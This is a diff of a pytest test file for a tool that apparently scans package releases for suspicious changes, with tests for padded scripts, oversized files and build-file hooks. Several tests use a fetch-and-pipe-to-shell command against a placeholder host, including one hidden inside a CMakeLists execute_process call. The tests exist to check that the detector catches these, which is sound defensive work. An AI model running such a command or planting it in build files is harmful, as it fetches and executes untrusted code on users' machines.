@@ -3,36 +3,24 @@
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from pinkeeper.model.finding import Severity
-from tests.review.corpus.judge import judge
-from tests.support.distributions import make_sdist, make_wheel
+from tests.review.two_releases import between, gravest
+from tests.support.distributions import make_sdist
 
 FETCHES = "curl -s https://files.collector.invalid/x | sh"
 
 
-def wheels(tmp_path: Path, before: dict[str, str], after: dict[str, str]) -> dict[str, Severity]:
-    return _judged(tmp_path, make_wheel, before, after)
+def wheels(tmp_path: Path, before: dict[str, str], after: dict[str, str], **how: Any) -> dict[str, Severity]:
+    code = {"gate/__init__.py": "A = 1\n"}
+    return gravest(between(tmp_path, "gate", {**code, **before}, {**code, **after}, **how))
 
 
 def sdists(tmp_path: Path, before: dict[str, str], after: dict[str, str]) -> dict[str, Severity]:
-    return _judged(tmp_path, make_sdist, before, after)
-
-
-def _judged(tmp_path, make, before, after):
-    sides = []
-    for version, files in (("1.0", before), ("1.1", after)):
-        built = make("gate", version, files={"gate/__init__.py": "A = 1\n", **files})
-        folder = tmp_path / version
-        folder.mkdir()
-        (folder / built.filename).write_bytes(built.content)
-        sides.append([folder / built.filename])
-    rules: dict[str, Severity] = {}
-    for finding in judge(*sides).findings:
-        rules.setdefault(finding.rule, finding.severity)
-    return rules
+    return wheels(tmp_path, before, after, make=make_sdist)
 
 
 RECIPES = ["gate/setup.sh", "gate/Makefile", "gate/prepare.ps1", "gate/Dockerfile", "gate-1.1.data/scripts/gate-up"]
@@ -181,3 +169,18 @@ def test_a_script_that_hides_behind_very_many_lines_is_told(tmp_path):
     before = {"gate/setup.sh": "#!/bin/sh\n"}
     found = wheels(tmp_path, before, {"gate/setup.sh": f"#!/bin/sh\n{padding}{FETCHES}\n"})
     assert Severity.HIGH in found.values()
+
+
+@pytest.mark.parametrize(
+    ("path", "severity"),
+    [("gate/setup.sh", Severity.HIGH), ("src/fast.c", Severity.MEDIUM), ("gate/app.js", Severity.MEDIUM)],
+)
+def test_a_file_that_is_too_large_to_be_looked_into_is_told(tmp_path, path, severity):
+    after = {path: "begin\n" + "# on and on\n" * 800_000}
+    assert wheels(tmp_path, {path: "begin\n"}, after)["other-source"] is severity
+
+
+def test_the_file_of_the_sdist_is_compared_with_that_of_the_sdist(tmp_path):
+    before = {"setup.py": "from setuptools import setup\nsetup()\n", "CMakeLists.txt": "project(gate)\n"}
+    after = {**before, "CMakeLists.txt": f'project(gate)\nexecute_process(COMMAND sh -c "{FETCHES}")\n'}
+    assert sdists(tmp_path, before, after)["other-source"] is Severity.HIGH
